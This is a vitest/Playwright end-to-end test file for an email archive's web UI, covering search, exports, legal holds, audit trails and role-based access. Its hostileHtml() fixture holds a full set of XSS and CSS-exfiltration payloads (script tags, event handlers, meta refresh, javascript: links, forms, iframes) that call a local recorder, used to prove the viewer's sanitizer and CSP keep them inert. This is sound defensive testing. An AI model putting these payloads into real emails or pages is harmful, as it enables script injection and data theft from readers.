/**
 * The web UI end to end, in headless Chromium (Debian's /usr/bin/chromium
 * driven by playwright-core; never a downloaded browser), against the real
 * archive seeded through its real SMTP port. It signs in, searches, refines
 * by a facet, opens a message, downloads the original, runs an EML export
 * to completion, checks a reviewer cannot export, survives an expired
 * session, and proves hostile HTML stays inert: a script would set a flag
 * or call a local "leak" server that records every hit, and nothing
 * arrives; after "load images" only the (https) images load.
 *
 * On both deployments (embedded, and scale-out on S3, OpenSearch and bull).
 * Screenshots of the main pages go to test-artifacts/web-ui/<mode>/ (gitignored).
 */
import { createHash, randomBytes } from 'node:crypto';
import { execFileSync } from 'node:child_process';
import { existsSync } from 'node:fs';
import { mkdir, readFile, rm } from 'node:fs/promises';
import http from 'node:http';
import https from 'node:https';
import path from 'node:path';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import yauzl from 'yauzl';
import { chromium, type BrowserContext, type Page } from 'playwright-core';
import { sendRaw } from './helpers/smtp-client.js';
import { ROOT, startInProcess, tempDir } from './helpers/archive-process.js';
import { makeUser, TEST_ACTOR, type TestUser } from './helpers/auth.js';
import { dropModeIndices, MODES, waitForIndexed } from './helpers/modes.js';
import type { RunningArchive } from '../src/main.js';

const CHROMIUM = '/usr/bin/chromium';
const CHROMIUM_ARGS = ['--headless', '--no-sandbox', '--disable-gpu', '--disable-background-networking', '--disable-component-update', '--disable-sync', '--no-first-run'];
const sha = (b: Buffer) => createHash('sha256').update(b).digest('hex');

if (!existsSync(CHROMIUM)) {
  // Outside CI a missing browser skips loudly; in CI (.ci/run installs chromium) this fails below.
  console.warn('\n!!!! web UI tests: /usr/bin/chromium is missing (apt-get install chromium); in CI this fails !!!!\n');
}
const haveBrowser = existsSync(CHROMIUM) || process.env.CI === 'true';

function mail(headers: Record<string, string>, body: string): Buffer {
  const h = Object.entries(headers).map(([k, v]) => `${k}: ${v}`);
  return Buffer.from([...h, 'MIME-Version: 1.0', ...(headers['Content-Type'] ? [] : ['Content-Type: text/plain; charset=utf-8']), 'Content-Transfer-Encoding: 8bit', '', body, ''].join('\r\n'));
}

function journalReport(original: Buffer, lines: string[], n: number): Buffer {
  const b = `JR-${n}`;
  const head = ['From: journal@corp.example', 'To: archive@archive.example', `Message-ID: <report-${n}@corp.example>`, 'X-MS-Journal-Report:', `Content-Type: multipart/mixed; boundary="${b}"`, '', `--${b}`, 'Content-Type: text/plain', '', ...lines, '', `--${b}`, 'Content-Type: message/rfc822', '', ''].join('\r\n');
  return Buffer.concat([Buffer.from(head), original, Buffer.from(`\r\n--${b}--\r\n`)]);
}

/** A tiny HTTP(S) server that records every request it gets: the test's tripwire. */
async function recorder(tls?: { key: Buffer; cert: Buffer }) {
  const hits: string[] = [];
  const handler = (req: http.IncomingMessage, res: http.ServerResponse) => {
    hits.push(`${req.method} ${req.url}`);
    if (req.url?.endsWith('.png')) {
      // A 1×1 PNG.
      res.writeHead(200, { 'content-type': 'image/png', 'access-control-allow-origin': '*' });
      res.end(Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=', 'base64'));
    } else res.end('recorded');
  };
  const srv = tls ? https.createServer(tls, handler) : http.createServer(handler);
  await new Promise<void>((resolve) => srv.listen(0, '127.0.0.1', resolve));
  return { hits, port: (srv.address() as AddressInfo).port, close: () => new Promise<void>((r) => srv.close(() => r())) };
}

function selfSignedCert(dir: string): { key: Buffer; cert: Buffer } {
  const key = path.join(dir, 'key.pem');
  const cert = path.join(dir, 'cert.pem');
  execFileSync('openssl', ['req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-keyout', key, '-out', cert, '-days', '1', '-subj', '/CN=127.0.0.1', '-addext', 'subjectAltName=IP:127.0.0.1'], { stdio: 'ignore' });
  return { key: execFileSync('cat', [key]), cert: execFileSync('cat', [cert]) };
}

function hostileHtml(leak: number, img: number): string {
  const L = `http://127.0.0.1:${leak}`;
  return `<!doctype html><html><head>
<meta http-equiv="refresh" content="0;url=${L}/meta-refresh">
<link rel="stylesheet" href="${L}/link-css">
<style>body { background: url(${L}/style-leak); } @import url(${L}/import-leak);</style>
<base href="${L}/base/">
<script>try { parent.__pwned = 'script'; } catch (e) {} try { top.__pwned = 'script'; } catch (e) {} fetch('${L}/script-ran'); new Image().src = '${L}/script-img';</script>
</head><body onload="fetch('${L}/onload')">
<h1 id="hostile-title">Quarterly invoice</h1>
<p>Please review the <b>hostile</b> invoice.</p>
<div style="background:url(${L}/css-exfil); color: red">CSS exfiltration attempt</div>
<div style="background-image: u\\72l(${L}/css-escape)">escaped url</div>
<img src="x" onerror="parent.__pwned='onerror'; fetch('${L}/onerror')">
<img id="remote-img" src="https://127.0.0.1:${img}/tracker.png" alt="remote https image">
<img src="http://127.0.0.1:${leak}/http-img.png" alt="remote http image">
<a href="javascript:parent.__pwned='href'" id="js-link">click me</a>
<form action="${L}/form" method="post"><input name="password" value="x"><button id="form-btn">Submit</button></form>
<iframe src="${L}/iframe"></iframe>
<object data="${L}/object"></object>
<svg onload="fetch('${L}/svg')"><image href="${L}/svg-image"/></svg>
<video poster="${L}/poster"></video>
<p onmouseover="parent.__pwned='hover'" id="hover-me">hover here</p>
</body></html>`;
}

describe.skipIf(!haveBrowser).each(MODES.filter((m) => m.enabled))('web UI in headless Chromium ($mode)', ({ mode, env }) => {
  const SHOTS = path.join(ROOT, 'test-artifacts', 'web-ui', mode);
  let modeEnv: Record<string, string>;
  let archive: RunningArchive & { dataDir: string };
  let base: string;
  let officer: TestUser;
  let reviewer: TestUser;
  let leak: Awaited<ReturnType<typeof recorder>>;
  let images: Awaited<ReturnType<typeof recorder>>;
  let ctx: BrowserContext;
  let userDataDir: string;
  const ids: Record<string, string> = {};
  const raws: Record<string, Buffer> = {};
  const PASSWORD = 'correct horse battery staple';

  const shot = (page: Page, name: string) => page.screenshot({ path: path.join(SHOTS, `${name}.png`), fullPage: true });

  async function signIn(page: Page, email: string, next = '/') {
    await page.goto(`${base}${next}`);
    await page.waitForURL(/\/sign-in/);
    await page.getByLabel('E-mail').fill(email);
    await page.getByLabel('Password').fill(PASSWORD);
    await page.getByRole('button', { name: 'Sign in' }).click();
    await page.waitForURL((u) => !u.pathname.startsWith('/sign-in'));
  }

  /** Opens a page as the officer, signing in first when the session is gone. */
  async function openAsOfficer(page: Page, target: string) {
    await page.goto(`${base}${target}`);
    await page.waitForFunction(() => !(globalThis as unknown as { document: { body: { innerText: string } } }).document.body.innerText.includes('Loading…'));
    if (new URL(page.url()).pathname === '/sign-in') {
      await page.getByLabel('E-mail').fill(officer.email);
      await page.getByLabel('Password').fill(PASSWORD);
      await page.getByRole('button', { name: 'Sign in' }).click();
      await page.waitForURL((u) => !u.pathname.startsWith('/sign-in'));
    }
  }

  beforeAll(async () => {
    await rm(SHOTS, { recursive: true, force: true });
    await mkdir(SHOTS, { recursive: true });
    const certDir = await tempDir('web-ui-cert-');
    leak = await recorder();
    images = await recorder(selfSignedCert(certDir));
    modeEnv = await env();
    archive = await startInProcess(modeEnv);
    base = `http://127.0.0.1:${archive.httpPort}`;
    officer = await makeUser(archive.services, base, { roles: ['officer'], email: 'olivia.officer@test.example' });
    reviewer = await makeUser(archive.services, base, { roles: ['reviewer'], email: 'rory.reviewer@test.example' });
    for (const u of [officer, reviewer]) await archive.services.auth.changePassword(u.email, u.password, PASSWORD, TEST_ACTOR);

    const fixtures: { key: string; raw: Buffer; journal?: string[] }[] = [
      {
        key: 'budget',
        raw: mail({ From: 'Alice Example <alice@corp.example>', To: 'bob@corp.example', Subject: 'Budget approval for Q3', Date: 'Mon, 01 Jan 2024 09:00:00 +0000', 'Message-ID': '<budget-1@corp.example>' }, 'We need budget approval before Friday.\r\nThe contract draft follows.'),
        journal: ['Sender: alice@corp.example', 'Subject: Budget approval for Q3', 'Message-Id: <budget-1@corp.example>', 'To: bob@corp.example', 'Bcc: secret.carol@corp.example', 'To: dave@corp.example, Expanded: finance@corp.example'],
      },
      {
        key: 'reply',
        raw: mail({ From: 'bob@corp.example', To: 'Alice Example <alice@corp.example>', Subject: 'Re: Budget approval for Q3', Date: 'Tue, 02 Jan 2024 10:00:00 +0000', 'Message-ID': '<budget-2@corp.example>', 'In-Reply-To': '<budget-1@corp.example>', References: '<budget-1@corp.example>' }, 'Approval of the budget is granted.'),
      },
      { key: 'partner', raw: mail({ From: 'pat@partner.example', To: 'alice@corp.example', Subject: 'Budget numbers from partner', Date: 'Wed, 15 Mar 2023 08:00:00 +0000', 'Message-ID': '<partner-1@partner.example>' }, 'Here are the budget numbers you asked for.') },
      {
        key: 'hostile',
        raw: mail({ From: 'attacker@evil.example', To: 'alice@corp.example', Subject: 'Hostile invoice', Date: 'Thu, 04 Jan 2024 12:00:00 +0000', 'Message-ID': '<hostile-1@evil.example>', 'Content-Type': 'text/html; charset=utf-8' }, hostileHtml(leak.port, images.port).replace(/\r?\n/g, '\r\n')),
      },
    ];
    let n = 0;
    for (const f of fixtures) {
      const payload = f.journal ? journalReport(f.raw, f.journal, n++) : f.raw;
      const answer = await sendRaw(archive.smtpPort, { from: f.journal ? '' : 'mta@corp.example', to: ['journal@archive.example'] }, payload);
      expect(answer.code).toBe(250);
      ids[f.key] = sha(f.raw);
      raws[f.key] = f.raw;
    }
    await waitForIndexed(archive.services, Object.values(ids), 30_000);

    userDataDir = await tempDir('web-ui-chromium-');
    ctx = await chromium.launchPersistentContext(userDataDir, {
      executablePath: CHROMIUM,
      headless: true,
      args: CHROMIUM_ARGS,
      viewport: { width: 1280, height: 800 },
      acceptDownloads: true,
      // Only for the test's own self-signed https image server.
      ignoreHTTPSErrors: true,
    });
  }, 120_000);

  afterAll(async () => {
    await ctx?.close();
    await archive?.close();
    await leak?.close();
    await images?.close();
    if (userDataDir) await rm(userDataDir, { recursive: true, force: true });
    await dropModeIndices(modeEnv);
  });

  it('officer: signs in, searches, refines by a facet, pages through results, keeps the query in the URL', async () => {
    const page = await ctx.newPage();
    await page.goto(`${base}/sign-in`);
    await shot(page, '01-sign-in');
    await signIn(page, officer.email, '/search');
    await expect.poll(() => page.url()).toContain('/search');
    await page.getByLabel('Query').fill('budget');
    await page.getByLabel('Query').press('Enter');
    await page.waitForURL(/q=budget/);
    await page.locator('#results tbody tr').first().waitFor();
    expect(await page.locator('#results tbody tr').count()).toBe(3);
    expect(await page.locator('#results mark').first().textContent()).toMatch(/budget/i);
    await shot(page, '02-search-results');

    // Facet: refine by the sender domain of the partner.
    await page.locator('button.facet[data-facet="from:pat@partner.example"]').click();
    await page.waitForURL(/from%3Apat%40partner\.example|from:pat@partner.example/);
    await expect.poll(() => page.locator('#results tbody tr').count()).toBe(1);
    expect(await page.locator('#results .subject').textContent()).toBe('Budget numbers from partner');
    expect(new URL(page.url()).searchParams.get('q')).toBe('budget from:pat@partner.example');

    // Sort by date ascending from the column header; the sort is in the URL.
    await page.goto(`${base}/search?q=budget`);
    await page.locator('#results tbody tr').first().waitFor();
    await page.getByRole('button', { name: /^Date/ }).click();
    await page.waitForURL(/order=asc/);
    await expect.poll(() => page.locator('#results .subject').first().textContent()).toBe('Budget numbers from partner');

    // A bookmarked URL opens the same search; a syntax error is shown at its position.
    await page.goto(`${base}/search?q=${encodeURIComponent('budget AND')}`);
    await page.locator('#q-error .error').waitFor();
    expect(await page.locator('#q-error .error').textContent()).toMatch(/position 7/);
    expect(await page.locator('#q-error .at').textContent()).toBe('A');
    await shot(page, '03-search-syntax-error');

    // Builder adds terms to the query.
    await page.goto(`${base}/search`);
    await page.locator('#builder summary').click();
    await page.getByLabel('Participants (sender or any recipient)').fill('alice@corp.example');
    await page.getByLabel('Has attachment').check();
    await page.getByRole('button', { name: 'Add to query and search' }).click();
    await page.waitForURL(/has%3Aattachment|has:attachment/);
    expect(new URL(page.url()).searchParams.get('q')).toBe('participant:alice@corp.example has:attachment');

    // Cursor paging: 4 messages, 3 per page; the cursor is in the URL, and Previous goes back.
    await page.goto(`${base}/search?size=3`);
    await page.locator('#results tbody tr').first().waitFor();
    expect(await page.locator('#results caption').textContent()).toMatch(/^4 messages/);
    const firstPage = await page.locator('#results .subject').allTextContents();
    expect(firstPage).toHaveLength(3);
    await page.locator('#next-page').click();
    await page.waitForURL(/cursor=/);
    await expect.poll(() => page.locator('#results .subject').allTextContents()).toHaveLength(1);
    const secondPage = await page.locator('#results .subject').allTextContents();
    expect(new Set([...firstPage, ...secondPage]).size).toBe(4);
    expect(await page.locator('#next-page').count()).toBe(0);
    await page.getByRole('button', { name: '← Previous page' }).click();
    await expect.poll(() => page.locator('#results .subject').allTextContents()).toEqual(firstPage);

    // Keyboard: "/" jumps to the query box; a result opens with Enter.
    await page.locator('main h1').click();
    await page.keyboard.press('/');
    expect(await page.evaluate(() => (globalThis as unknown as { document: { activeElement: { id: string } } }).document.activeElement.id)).toBe('q');
    await page.locator('#results .subject').first().focus();
    await page.keyboard.press('Enter');
    await page.waitForURL(/\/messages\/[0-9a-f]{64}$/);
    await page.close();
  });

  it('officer: opens a message (headers, Bcc and expanded recipients, thread, integrity) and downloads the original', async () => {
    const page = await ctx.newPage();
    await openAsOfficer(page, `/search?q=${encodeURIComponent('subject:"Budget approval"')}`);
    await page.locator('#results tbody tr').first().waitFor();
    await page.getByRole('link', { name: 'Budget approval for Q3', exact: true }).click();
    await page.waitForURL(new RegExp(`/messages/${ids.budget}$`));
    await expect.poll(() => page.locator('#subject').textContent()).toBe('Budget approval for Q3');
    const rcpts = page.locator('#envelope-recipients li');
    await expect.poll(() => rcpts.filter({ hasText: 'secret.carol@corp.example' }).locator('.badge.bcc').count()).toBe(1);
    expect(await rcpts.filter({ hasText: 'dave@corp.example' }).locator('.badge.exp').textContent()).toBe('expanded from finance@corp.example');
    await expect.poll(() => page.locator('#integrity').textContent()).toMatch(/Integrity verified/);
    await expect.poll(() => page.locator('#thread li').count()).toBe(2);
    // The plain body is in the sandboxed frame.
    const frame = page.frameLocator('#body-frame');
    await expect.poll(() => frame.locator('pre.plain').textContent()).toContain('We need budget approval before Friday.');
    await shot(page, '04-message');

    const [download] = await Promise.all([page.waitForEvent('download'), page.locator('#download-raw').click()]);
    const bytes = await readFile((await download.path())!);
    expect(sha(bytes)).toBe(ids.budget);
    expect(bytes.equals(raws.budget)).toBe(true);
    expect(download.suggestedFilename()).toBe(`${ids.budget}.eml`);
    await page.close();
  });

  it('hostile HTML stays inert: no script, handler, form, refresh, CSS or remote load; after "load images" only the images load', async () => {
    const page = await ctx.newPage();
    await openAsOfficer(page, `/messages/${ids.hostile}`);
    const frameEl = page.locator('#body-frame');
    await frameEl.waitFor();
    expect(await frameEl.getAttribute('sandbox')).toBe('');
    const frame = page.frameLocator('#body-frame');
    await expect.poll(() => frame.locator('#hostile-title').count().catch(() => 0)).toBe(0); // ids are stripped
    await expect.poll(() => frame.locator('h1').textContent()).toBe('Quarterly invoice');
    // Interact like a curious reader: hover, click the link, press where the form was.
    await frame.locator('p', { hasText: 'hover here' }).hover();
    await frame.locator('a', { hasText: 'click me' }).click();
    expect(await frame.locator('form, input, button, script, iframe, object, embed, svg, video, link, base, meta[http-equiv], [onload], [onerror], [onmouseover]').count()).toBe(0);
    expect(await frame.locator('style').count()).toBe(1); // the viewer's own
    await page.waitForTimeout(1500);
    expect(await page.evaluate(() => (globalThis as unknown as { __pwned?: string }).__pwned ?? null)).toBeNull();
    expect(leak.hits).toEqual([]);
    expect(images.hits).toEqual([]);
    // The remote https image is in the markup but not loaded.
    expect(await frame.locator('img[alt="remote https image"]').count()).toBe(1);
    expect(await frame.locator('img[alt="remote http image"]').getAttribute('src')).toBeNull();
    await shot(page, '05-hostile-message-blocked');

    await page.locator('#load-images').click();
    await expect.poll(() => images.hits.length, { timeout: 10_000 }).toBeGreaterThan(0);
    await page.waitForTimeout(1000);
    expect([...new Set(images.hits)]).toEqual(['GET /tracker.png']);
    expect(leak.hits).toEqual([]);
    expect(await page.evaluate(() => (globalThis as unknown as { __pwned?: string }).__pwned ?? null)).toBeNull();
    await shot(page, '06-hostile-message-images-loaded');

    // The body document carries its own strict CSP and the sandbox directive even when opened directly.
    const direct = await officer.fetch(`/api/messages/${ids.hostile}/html`);
    expect(direct.headers.get('content-security-policy')).toBe("default-src 'none'; img-src data: cid:; style-src 'unsafe-inline'; base-uri 'none'; form-action 'none'; frame-ancestors 'self'; sandbox");
    const html = await direct.text();
    expect(html).not.toMatch(/<script|onload|onerror|onmouseover|javascript:|<form|<meta http-equiv|url\(|127\.0\.0\.1:\d+\/(?!tracker)/i);
    const withImages = await officer.fetch(`/api/messages/${ids.hostile}/html?images=1`);
    expect(withImages.headers.get('content-security-policy')).toContain('img-src data: cid: https:;');
    await page.close();
  });

  it('officer: runs an EML export to completion from the search and downloads the package', async () => {
    const page = await ctx.newPage();
    await openAsOfficer(page, '/search?q=budget');
    await page.locator('#results tbody tr').first().waitFor();
    await page.locator('#export-results').click();
    await page.waitForURL(/\/exports\?q=budget/);
    expect(await page.locator('#export-q').inputValue()).toBe('budget');
    await page.getByLabel('Format').selectOption('eml');
    await page.locator('#start-export').click();
    const row = page.locator('#exports tbody tr').first();
    await expect.poll(() => row.getAttribute('data-status'), { timeout: 30_000 }).toBe('done');
    await shot(page, '07-exports');
    const [download] = await Promise.all([page.waitForEvent('download'), row.locator('a[data-download]').click()]);
    const zip = await readFile((await download.path())!);
    expect(zip.subarray(0, 2).toString()).toBe('PK');
    const names = await new Promise<string[]>((resolve, reject) =>
      yauzl.fromBuffer(zip, { lazyEntries: true }, (err, z) => {
        if (err || !z) return reject(err);
        const out: string[] = [];
        z.on('entry', (e: yauzl.Entry) => {
          out.push(e.fileName);
          z.readEntry();
        });
        z.on('end', () => resolve(out));
        z.on('error', reject);
        z.readEntry();
      }),
    );
    expect(names.filter((n) => n.endsWith('.eml'))).toHaveLength(3);
    expect(names).toContain('manifest.json');
    await page.close();
  });

  it('officer: opens a case with a custodian hold and sees the held count', async () => {
    const page = await ctx.newPage();
    await openAsOfficer(page, '/cases');
    await page.locator('#case-form').waitFor();
    await page.getByLabel('Case name').fill('Acme v. Corp');
    await page.getByLabel('Matter number').fill('M-2024-001');
    await page.getByLabel('Custodians (comma-separated addresses)').fill('alice@corp.example');
    await page.getByRole('button', { name: 'Open case' }).click();
    await page.waitForURL(/\/cases\?id=/);
    await expect.poll(() => page.locator('main h1').textContent()).toBe('M-2024-001: Acme v. Corp');
    expect(await page.getByLabel('Custodians', { exact: true }).inputValue()).toBe('alice@corp.example');
    await page.locator('#place-hold').click();
    const row = page.locator('#holds tbody tr').first();
    await row.waitFor();
    // Alice is on all four messages (sender of one, recipient of three).
    expect(await row.locator('.held-count').textContent()).toBe('4');
    expect(await row.getAttribute('data-status')).toBe('active');
    await shot(page, '08-case-with-hold');
    const [report] = await Promise.all([page.waitForEvent('download'), page.getByRole('link', { name: 'Hold report (PDF)' }).click()]);
    expect((await readFile((await report.path())!)).subarray(0, 5).toString()).toBe('%PDF-');

    // A second hold, released with a reason.
    await page.getByLabel('Hold name').fill('Short-lived hold');
    await page.getByLabel('Query (optional)').fill('budget');
    await page.locator('#place-hold').click();
    const second = page.locator('#holds tbody tr', { hasText: 'Short-lived hold' });
    await second.waitFor();
    await second.getByPlaceholder('Reason (required)').fill('Entered by mistake');
    await second.getByRole('button', { name: 'Release' }).click();
    await expect.poll(() => page.locator('#holds tbody tr', { hasText: 'Short-lived hold' }).getAttribute('data-status')).toBe('released');
    expect(await page.locator('#holds tbody tr', { hasText: 'Short-lived hold' }).textContent()).toContain('Entered by mistake');
    await page.close();
  });

  it('an expired session goes to sign-in and comes back to the same URL', async () => {
    const page = await ctx.newPage();
    const target = `/search?q=${encodeURIComponent('from:alice@corp.example')}`;
    await openAsOfficer(page, target);
    await page.locator('#results tbody tr').first().waitFor();
    await ctx.clearCookies();
    await page.reload();
    await page.waitForURL(/\/sign-in\?/);
    expect(new URL(page.url()).searchParams.get('next')).toBe(target);
    // An API call that meets a dead session mid-page does the same.
    await page.getByLabel('E-mail').fill(officer.email);
    await page.getByLabel('Password').fill(PASSWORD);
    await page.getByRole('button', { name: 'Sign in' }).click();
    await page.waitForURL((u) => u.pathname === '/search');
    expect(new URL(page.url()).searchParams.get('q')).toBe('from:alice@corp.example');
    await page.locator('#results tbody tr').first().waitFor();
    await archive.services.auth.signOut((await archive.services.auth.authenticateSession((await ctx.cookies()).find((c) => c.name.endsWith('archive_session'))!.value))!, TEST_ACTOR);
    await page.getByLabel('Query').fill('budget');
    await page.getByLabel('Query').press('Enter');
    await page.waitForURL(/\/sign-in\?expired=1/);
    expect(await page.locator('.banner').textContent()).toMatch(/session has ended/);
    expect(new URL(page.url()).searchParams.get('next')).toBe('/search?q=budget');
    await page.close();
  });

  it('auditor: filters the audit trail (the body views are in it) and verifies it; admin: users and health', async () => {
    const auditor = await makeUser(archive.services, base, { roles: ['auditor'], email: 'audrey.auditor@test.example' });
    const admin = await makeUser(archive.services, base, { roles: ['admin'], email: 'adam.admin@test.example' });
    for (const u of [auditor, admin]) await archive.services.auth.changePassword(u.email, u.password, PASSWORD, TEST_ACTOR);
    await ctx.clearCookies();
    const page = await ctx.newPage();
    await signIn(page, auditor.email, '/');
    await page.waitForURL(/\/audit/);
    expect(await page.locator('#nav a', { hasText: 'Search' }).count()).toBe(0);
    await page.getByLabel('Action').fill('message.view_body');
    await page.getByRole('button', { name: 'Filter' }).click();
    await page.waitForURL(/action=message.view_body/);
    await expect.poll(() => page.locator('#audit tbody tr').count()).toBeGreaterThan(0);
    const actions = await page.locator('#audit tbody tr td:nth-child(3)').allTextContents();
    expect(new Set(actions)).toEqual(new Set(['message.view_body']));
    expect(await page.locator('#audit tbody tr', { hasText: ids.hostile }).count()).toBeGreaterThan(0);
    await page.locator('#verify-trail').click();
    await expect.poll(() => page.getByRole('status').filter({ hasText: /Intact|Broken/ }).first().textContent()).toMatch(/Intact/);
    await shot(page, '10-audit');

    // The retention report, from the Reports page.
    await page.goto(`${base}/reports`);
    const link = page.locator('#retention-report-pdf');
    await link.waitFor();
    const [report] = await Promise.all([page.waitForEvent('download'), link.click()]);
    const pdf = await readFile((await report.path())!);
    expect(pdf.subarray(0, 5).toString()).toBe('%PDF-');
    expect(report.suggestedFilename()).toBe('retention-report.pdf');
    await shot(page, '11-reports');

    await ctx.clearCookies();
    await signIn(page, admin.email, '/');
    await page.waitForURL(/\/admin/);
    await expect.poll(() => page.locator('#users tbody tr').count()).toBeGreaterThanOrEqual(4);
    await expect.poll(() => page.locator('main h2').first().textContent()).toMatch(/Health: ok/);
    await shot(page, '12-admin');

    // Ingest over time: the four seeded messages, received minutes ago, as bars of the last 30 days.
    const seededBytes = Object.values(raws).reduce((n, r) => n + r.length, 0);
    const chart = page.locator('#ingest-chart');
    await chart.waitFor();
    const bars = chart.locator('g.bar');
    const barData = () => bars.evaluateAll((gs) => gs.map((g) => ({ messages: Number(g.getAttribute('data-messages')), bytes: Number(g.getAttribute('data-bytes')), title: g.querySelector('title')?.textContent ?? '', drawn: !!g.querySelector('rect.fill') })));
    const sum = (xs: { messages: number; bytes: number }[]) => xs.reduce((a, x) => ({ messages: a.messages + x.messages, bytes: a.bytes + x.bytes }), { messages: 0, bytes: 0 });
    let data = await barData();
    expect(data).toHaveLength(30);
    expect(sum(data)).toEqual({ messages: 4, bytes: seededBytes });
    // Only non-empty days have a visible bar, each titled with its own count; they are today's (or, across midnight, yesterday's).
    data.forEach((d, i) => {
      expect(d.drawn).toBe(d.messages > 0);
      expect(d.title).toMatch(new RegExp(`^\\d{4}-\\d{2}-\\d{2}: ${d.messages} messages?, `));
      if (d.messages > 0) expect(i).toBeGreaterThanOrEqual(28);
    });
    expect(await page.locator('#ingest-summary').textContent()).toMatch(/^4 messages, [\d.]+ KB archived in the last 30 days · 4 messages in the archive · index queue: 0 pending, 0 failed$/);
    expect(await chart.getAttribute('aria-label')).toMatch(/^Bar chart: messages archived per day \(UTC\), .* 4 messages in all;/);
    const ticks = await chart.locator('text.xtick').allTextContents();
    expect(ticks.length).toBeGreaterThanOrEqual(5);
    for (const t of ticks) expect(t).toMatch(/^\d{1,2} [A-Z][a-z]{2,3}$/); // "27 Nov"
    // The same numbers as a table, for screen readers and for reading off exact values.
    await page.locator('#ingest-data summary').click();
    const rows = page.locator('#ingest-data tbody tr');
    expect(await rows.count()).toBe(30);
    expect((await rows.locator('td:nth-child(2)').allTextContents()).reduce((n, t) => n + Number(t), 0)).toBe(4);
    await shot(page, '14-admin-ingest-daily');

    // Switch to hours: 48 bars, the same four messages; the interval is kept in the URL.
    await page.getByRole('button', { name: 'Hourly' }).click();
    await expect.poll(() => bars.count()).toBe(48);
    expect(await page.getByRole('button', { name: 'Hourly' }).getAttribute('aria-pressed')).toBe('true');
    expect(await page.getByRole('button', { name: 'Daily' }).getAttribute('aria-pressed')).toBe('false');
    expect(new URL(page.url()).searchParams.get('interval')).toBe('hour');
    data = await barData();
    expect(sum(data)).toEqual({ messages: 4, bytes: seededBytes });
    expect(data.filter((d) => d.messages > 0).every((d) => /^\d{4}-\d{2}-\d{2} \d{2}:00 UTC: /.test(d.title))).toBe(true);
    await shot(page, '15-admin-ingest-hourly');
    // Only admins may read the statistics.
    expect((await officer.fetch('/api/admin/ingest-stats')).status).toBe(403);

    // Retention: the simulator's counts come before saving.
    await page.goto(`${base}/retention`);
    await page.locator('#policy-form').waitFor();
    const before = await page.locator('#policies tbody tr').count();
    const save = page.getByRole('button', { name: 'Save policy' });
    expect(await save.isDisabled()).toBe(true);
    await page.getByLabel('Name').fill('Partner mail, ten years');
    await page.getByLabel('Senders').fill('partner.example');
    await page.getByLabel('Keep for').fill('10');
    await page.getByRole('button', { name: 'Simulate' }).click();
    await page.locator('#simulation table').waitFor();
    await shot(page, '13-retention-simulation');
    await save.click();
    await expect.poll(() => page.locator('#policies tbody tr').count()).toBe(before + 1);
    await page.close();
  });

  it('reviewer: sees no export button or Exports page link, and the server refuses the export call', async () => {
    await ctx.clearCookies();
    const page = await ctx.newPage();
    await signIn(page, reviewer.email, '/search?q=budget');
    await page.locator('#results tbody tr').first().waitFor();
    expect(await page.locator('#export-results').count()).toBe(0);
    expect(await page.locator('#nav a', { hasText: 'Exports' }).count()).toBe(0);
    await shot(page, '09-reviewer-search');
    const status = await page.evaluate(async () => {
      const csrf = ((await (await fetch("/api/auth/me")).json()) as { csrf: string }).csrf;
      const r = await fetch('/api/exports', { method: 'POST', headers: { 'content-type': 'application/json', 'x-csrf-token': csrf }, body: JSON.stringify({ source: { kind: 'query', q: '' }, format: 'eml' }) });
      return r.status;
    });
    expect(status).toBe(403);
    // The body route follows the same scope and role rules as the rest: an auditor-only token gets 403.
    const auditor = await makeUser(archive.services, base, { roles: ['auditor'], email: `aud-${randomBytes(3).toString('hex')}@test.example` });
    expect((await auditor.fetch(`/api/messages/${ids.budget}/html`)).status).toBe(403);
    await page.close();
  });
});
